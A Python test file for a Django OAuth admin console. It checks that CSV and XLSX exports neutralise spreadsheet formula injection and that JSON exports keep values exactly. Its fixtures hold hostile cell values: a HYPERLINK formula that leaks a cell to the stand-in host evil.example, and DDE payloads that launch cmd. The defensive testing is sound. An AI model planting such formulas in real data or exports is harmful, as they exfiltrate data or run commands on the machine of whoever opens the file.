"""Exports a spreadsheet opens never hold a live formula (CSV/formula injection, issue 11 item 4).

A developer names a client `=HYPERLINK("https://evil.example/?leak="&B2,"Click")`; an operator
exports the clients or the tokens and opens the file. Every CSV and XLSX cell that starts with
= + - @ tab or CR must arrive as text (a leading apostrophe), in every export the admin offers.
JSON is data for programs and keeps values exactly.
"""

import csv
import io
import json

import openpyxl
import pytest
from django.contrib import admin
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client as HttpClient
from django.urls import reverse
from import_export.admin import ExportMixin

from oauth_console.spreadsheets import SpreadsheetSafeExportMixin
from server import services
from server.actors import Actor
from server.models import Client, Token

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?leak="&B2,"Click")'
# Stored around the policies (an old row, or a field nobody validates), one per dangerous start.
HOSTILE = {
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "username": "-2+3+cmd|' /C calc'!A0",
    "revoked_reason": "+1+1",
    "revoked_by": "\t=1+1",
    "contacts": ["\r=1+1@example.com"],
}
FORMATS = {"csv": "0", "json": "1", "xlsx": "2"}


@pytest.fixture
def ops(operator) -> HttpClient:
    http = HttpClient()
    http.force_login(operator)
    return http


@pytest.fixture
def hostile(django_user_model):
    """A client and a token whose exported cells would each start a formula."""
    user = django_user_model.objects.create_user(HOSTILE["username"], "u@example.com", "pw-123456789")
    client, _ = services.create_client(
        name=FORMULA,
        actor=Actor.system("tests"),
        owner=user,
        redirect_uris=["https://app.example.com/callback"],
        grant_types=["authorization_code", "refresh_token"],
        scope=["profile"],
    )
    Client.objects.filter(pk=client.pk).update(
        description=HOSTILE["description"], contacts=HOSTILE["contacts"]
    )
    token = services.store_token(
        {"access_token": "oat_formula-test-token", "expires_in": 3600},
        client=client,
        user=user,
        grant_type="authorization_code",
    )
    Token.objects.filter(pk=token.pk).update(
        revoked_reason=HOSTILE["revoked_reason"], revoked_by=HOSTILE["revoked_by"]
    )
    return client


def export_clients(http, file_format: str) -> bytes:
    data = {"format": FORMATS[file_format]}
    for name in ("client_id", "name", "description", "contacts", "owner", "redirect_uris", "created_at"):
        data[f"clientresource_{name}"] = "on"
    response = http.post(reverse("admin:server_client_export"), data)
    assert response.status_code == 200, response.content[:300]
    return response.content


def export_tokens(http, file_format: str) -> bytes:
    data = {"format": FORMATS[file_format]}
    for name in ("id", "client_name", "username", "revoked_by", "revoked_reason", "issued_at"):
        data[f"tokenmetadataresource_{name}"] = "on"
    response = http.post(reverse("admin:server_token_export"), data)
    assert response.status_code == 200, response.content[:300]
    return response.content


def xlsx_rows(content: bytes) -> tuple[list[dict], list]:
    # Not data_only: a formula cell would show up with data_type "f" and its formula as value.
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    header = [cell.value for cell in sheet[1]]
    rows = [
        dict(zip(header, (cell.value for cell in row), strict=False)) for row in sheet.iter_rows(min_row=2)
    ]
    return rows, cells


def csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode())))


EXPECTED_CLIENT_CELLS = {
    "name": "'" + FORMULA,
    "description": "'" + HOSTILE["description"],
    "owner": "'" + HOSTILE["username"],
    "contacts": "'" + HOSTILE["contacts"][0],
}
EXPECTED_TOKEN_CELLS = {
    "client_name": "'" + FORMULA,
    "username": "'" + HOSTILE["username"],
    "revoked_reason": "'" + HOSTILE["revoked_reason"],
    "revoked_by": "'" + HOSTILE["revoked_by"],
}


@pytest.mark.parametrize(
    "export, expected",
    [(export_clients, EXPECTED_CLIENT_CELLS), (export_tokens, EXPECTED_TOKEN_CELLS)],
    ids=["clients", "tokens"],
)
def test_xlsx_export_has_no_formula_cell(ops, hostile, export, expected):
    rows, cells = xlsx_rows(export(ops, "xlsx"))

    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert len(rows) == 1
    for column, value in expected.items():
        # (An XLSX file stores a carriage return as a line feed.)
        assert rows[0][column] == value.replace("\r", "\n"), column


@pytest.mark.parametrize(
    "export, expected",
    [(export_clients, EXPECTED_CLIENT_CELLS), (export_tokens, EXPECTED_TOKEN_CELLS)],
    ids=["clients", "tokens"],
)
def test_csv_export_cells_are_prefixed(ops, hostile, export, expected):
    rows = csv_rows(export(ops, "csv"))

    assert len(rows) == 1
    for column, value in expected.items():
        assert rows[0][column] == value, column


def test_json_export_keeps_values_exactly(ops, hostile):
    clients = json.loads(export_clients(ops, "json"))
    tokens = json.loads(export_tokens(ops, "json"))
    assert clients[0]["name"] == FORMULA
    assert clients[0]["description"] == HOSTILE["description"]
    assert tokens[0]["revoked_by"] == HOSTILE["revoked_by"]


def test_ordinary_values_are_exported_unchanged(ops, make_client):
    make_client("Billing app", description="Bills people.")
    rows = csv_rows(export_clients(ops, "csv"))
    assert rows[0]["name"] == "Billing app"
    assert rows[0]["description"] == "Bills people."
    assert rows[0]["redirect_uris"] == "https://app.example.com/callback"


def test_every_admin_that_exports_is_spreadsheet_safe():
    # A new export in the admin gets the same guard, or this test names it.
    exporting = [
        type(model_admin).__name__
        for model_admin in admin.site._registry.values()
        if isinstance(model_admin, ExportMixin)
    ]
    assert exporting, "no admin exports anything?"
    unsafe = [
        type(model_admin).__name__
        for model_admin in admin.site._registry.values()
        if isinstance(model_admin, ExportMixin) and not isinstance(model_admin, SpreadsheetSafeExportMixin)
    ]
    assert unsafe == []


def test_a_csv_export_imports_back_unchanged(ops, hostile):
    fields = ("client_id", "name", "description", "client_type", "redirect_uris", "grant_types", "scope")
    data = {"format": FORMATS["csv"], **{f"clientresource_{name}": "on" for name in fields}}
    exported = ops.post(reverse("admin:server_client_export"), data).content
    assert exported.decode().count("'=HYPERLINK") == 1
    Client.objects.all().delete()

    upload = SimpleUploadedFile("clients.csv", exported, content_type="text/csv")
    preview = ops.post(
        reverse("admin:server_client_import"), {"import_file": upload, "format": "0", "resource": "0"}
    )
    assert not preview.context["result"].has_validation_errors(), preview.context["result"].invalid_rows
    ops.post(reverse("admin:server_client_process_import"), preview.context["confirm_form"].initial)

    imported = Client.objects.get()
    assert imported.name == FORMULA
    assert imported.description == HOSTILE["description"]
